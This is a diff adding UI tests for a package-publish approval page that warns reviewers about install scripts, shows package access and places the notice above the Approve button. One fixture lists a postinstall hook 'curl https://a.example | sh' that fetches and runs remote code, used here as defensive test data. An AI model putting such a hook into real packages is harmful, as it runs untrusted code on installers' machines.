@@ -333,6 +333,45 @@ test('warns of network settings of the repository, above the buttons', async (t)
   t.true((above?.y ?? 0) + (above?.height ?? 0) <= (button?.y ?? 0))
 })
 
+test('shows the scripts that run where it is installed, with their commands, above the buttons', async (t) => {
+  const scripts = [
+    { event: 'preinstall', command: 'node check.js' },
+    { event: 'postinstall', command: 'curl https://a.example | <b>sh</b>' },
+  ]
+  const details = { notes: null, files: [], previous: null, commits: [], scripts }
+  const { page, job } = await open(t, { ask: 'approval', accounts: ['alice'], details })
+  const notice = page.getByRole('region', { name: 'This version runs scripts where it is installed' })
+  const items = notice.getByRole('listitem')
+  await items.filter({ hasText: 'preinstall: node check.js' }).waitFor()
+  await items.filter({ hasText: 'postinstall: curl https://a.example | <b>sh</b>' }).waitFor()
+  const advice = notice.getByText('If you don’t expect this, decline.')
+  await advice.waitFor()
+  const [above, button] = await Promise.all([
+    notice.boundingBox(),
+    page.getByRole('button', { name: 'Approve' }).boundingBox(),
+  ])
+  t.true((above?.y ?? 0) + (above?.height ?? 0) <= (button?.y ?? 0))
+  await page.getByRole('button', { name: 'Approve' }).click()
+  await job.answer()
+  await heading(page, 'Approved')
+  await items.first().waitFor()
+  t.is(await advice.count(), 0)
+})
+
+test('a release without install scripts has no notice of them', async (t) => {
+  const { page } = await open(t)
+  t.is(await page.getByRole('region', { name: 'runs scripts' }).count(), 0)
+})
+
+for (const access of ['public', 'restricted', null] as const) {
+  test(`shows access ${access}`, async (t) => {
+    const { page } = await open(t, { package: { ...questionOf().package, access } })
+    const shown = await page.getByRole('definition').allTextContents()
+    const terms = await page.getByRole('term').allTextContents()
+    t.is(shown[terms.indexOf('Access')], access ?? undefined)
+  })
+}
+
 test('a job that knows no account gets a code all the same', async (t) => {
   const { page, job, code } = await open(t, { accounts: [] })
   t.is(await page.getByLabel('Publish as').count(), 0)
